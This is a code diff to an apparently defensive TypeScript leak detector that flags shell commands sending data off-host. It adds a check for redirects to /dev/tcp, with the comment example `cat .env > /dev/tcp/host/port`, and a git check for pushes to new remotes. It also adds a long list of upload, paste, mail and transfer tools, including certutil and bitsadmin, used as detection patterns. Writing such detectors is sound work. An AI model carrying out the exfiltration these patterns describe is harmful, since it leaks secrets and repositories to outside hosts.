@@ -32,6 +32,7 @@ export function leaks(invocations: readonly Invocation[], where: Where, effectsO
   const ownCopies = copiesOf(own, where);
   const sent = senders.flatMap((sender) => {
     const source =
+      toSocket(sender, sources) ??
       piped(sender, sources, 0) ??
       substituted(sender, sources) ??
       attached(sender, copies, where) ??
@@ -59,12 +60,21 @@ export function leaks(invocations: readonly Invocation[], where: Where, effectsO
 /** `git remote add NAME URL; git push NAME`: all that was ever committed goes to a host that was none before. */
 function pushedAway(invocations: readonly Invocation[]): Effect[] {
   const added = new Map<string, string>();
+  const elsewhere = new Set<string>();
   return invocations.flatMap((invocation) => {
     if (invocation.program !== "git") return [];
     const words = invocation.args.map(({ text }) => text).filter((text) => !text.startsWith("-"));
     const [verb, second, name = "", url = ""] = words;
-    if (verb === "remote" && /^(?:add|set-url)$/.test(second ?? "") && !KNOWN_HOST.test(url)) added.set(name, url);
-    const to = verb === "push" ? words.slice(1).find((word) => added.has(word)) : undefined;
+    if (verb === "remote" && /^(?:add|set-url)$/.test(second ?? "")) {
+      // Whose a repository on a known host is, its name does not say: one that takes the place of `origin` is another.
+      if (!KNOWN_HOST.test(url)) added.set(name, url);
+      else if (second === "set-url" || !/^(?:origin|upstream|fork|github|gitlab)$/.test(name)) elsewhere.add(name);
+    }
+    const pushed = verb === "push" ? words.slice(1) : [];
+    const everything = invocation.args.some(({ text }) => /^--(?:all|mirror)$/.test(text));
+    const to =
+      pushed.find((word) => added.has(word) || (elsewhere.has(word) && (everything || word === "origin"))) ??
+      (verb === "push" && pushed.length === 0 && elsewhere.has("origin") ? "origin" : undefined);
     return to === undefined ? [] : [leak(invocation, { what: "the whole repository", from: "file" }, "risky", NOT_OWN)];
   });
 }
@@ -86,6 +96,73 @@ const CARRIES = new Map<string, RegExp>([
   ["smbclient", /./],
   ["swaks", /./],
   ["termbin", /./],
+  ["az", / storage (?:blob|file|fs file|fs directory) upload(?:-batch)?\b/],
+  ["azcopy", /^ (?:copy|cp|sync)\b/],
+  ["gcloud", / storage (?:cp|mv|rsync)\b/],
+  ["s3cmd", / (?:put|sync|mv|cp)\b/],
+  ["s4cmd", / (?:put|sync|mv|cp)\b/],
+  ["s5cmd", / (?:cp|sync|mv|pipe)\b/],
+  ["mc", /^ (?:cp|mirror|mv|pipe|put)\b/],
+  ["b2", / (?:upload-file|upload_file|file upload|sync)\b/],
+  ["oci", / os object (?:put|bulk-upload|sync)\b/],
+  ["ossutil", / (?:cp|sync)\b/],
+  ["coscmd", / upload\b/],
+  ["swift", / upload\b/],
+  ["wrangler", / r2 object put\b/],
+  ["linode-cli", / obj put\b/],
+  ["ibmcloud", / cos (?:object-put|upload)\b/],
+  ["gdrive", / (?:files )?(?:upload|sync upload|import)\b/],
+  ["drive", / push\b/],
+  ["dbxcli", / put\b/],
+  ["dropbox_uploader.sh", / upload\b/],
+  ["mega-put", /^/],
+  ["megaput", /^/],
+  ["onedrive", / --upload/],
+  ["keybase", / (?:fs cp|chat (?:upload|send))\b/],
+  ["ipfs", / (?:add|dag put|block put)\b/],
+  ["croc", / send\b/],
+  ["wormhole", / (?:send|tx)\b/],
+  ["magic-wormhole", / (?:send|tx)\b/],
+  ["wormhole-william", / send\b/],
+  ["ffsend", / (?:upload|u)\b/],
+  ["transfer", /^/],
+  ["transferwee", / upload\b/],
+  ["portal", / send\b/],
+  ["syncthing", / cli\b/],
+  ["tailscale", / file cp\b/],
+  ["kdeconnect-cli", / --share\b/],
+  ["adb", / push\b/],
+  ["pastebinit", /^/],
+  ["wgetpaste", /^/],
+  ["nopaste", /^/],
+  ["pbin", /^/],
+  ["telegram-send", /^/],
+  ["slackcat", /^/],
+  ["slack", / (?:file upload|chat send)\b/],
+  ["discord.sh", /^/],
+  ["ntfy", / (?:publish|pub|send)\b/],
+  ["mutt", / -a\b/],
+  ["neomutt", / -a\b/],
+  ["mailx", / (?:-a|-A)\b/],
+  ["mail", / (?:-a|-A)\b/],
+  ["s-nail", / -a\b/],
+  ["mpack", /^/],
+  ["sendemail", /^/],
+  ["git", / send-email\b/],
+  ["gist", /^/],
+  ["restic", / backup\b/],
+  ["borg", / create\b/],
+  ["duplicity", /^/],
+  ["kopia", / snapshot create\b/],
+  ["curlie", / @/],
+  ["cadaver", /^/],
+  ["ncftpput", /^/],
+  ["wput", /^/],
+  ["bitsadmin", / \/upload/i],
+  ["certutil", / -urlcache .{0,60}-f/i],
+  ["qrcp", / (?:send|[./~])/],
+  ["udpcast", /^/],
+  ["uftp", /^/],
 ]);
 const LOOPBACK =
   /(?:^|[\s/@=])(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|\[?::1\]?|0\.0\.0\.0|host\.docker\.internal)(?:[:/\s]|$)/i;
@@ -96,7 +173,9 @@ const NEAR =
 
 /** Whoever has a place there, has it for such things. */
 function isStore({ program = "" }: Invocation): boolean {
-  return /^(?:aws|gsutil|rclone|gh)$/.test(program);
+  return /^(?:aws|gsutil|rclone|gh|az|azcopy|gcloud|s3cmd|s4cmd|s5cmd|mc|b2|oci|ossutil|coscmd|swift|gdrive|drive|dbxcli|ipfs|croc|wormhole|magic-wormhole|ffsend|transfer|portal|mega-put|megaput|keybase|adb|tailscale)$/.test(
+    program,
+  );
 }
 
 function isSender(invocation: Invocation, effectsOf: EffectsOf): boolean {
@@ -125,6 +204,13 @@ function piped({ input }: Invocation, sources: ReadonlyMap<Invocation, Source>, 
     if (source !== undefined) return narrowed(from, source);
   }
   return undefined;
+}
+
+/** `cat .env > /dev/tcp/host/port` */
+function toSocket(sender: Invocation, sources: ReadonlyMap<Invocation, Source>): Source | undefined {
+  return sender.redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text))
+    ? sources.get(sender)
+    : undefined;
 }
 
 /** `env | grep ^PATH` is not all variables any more. */
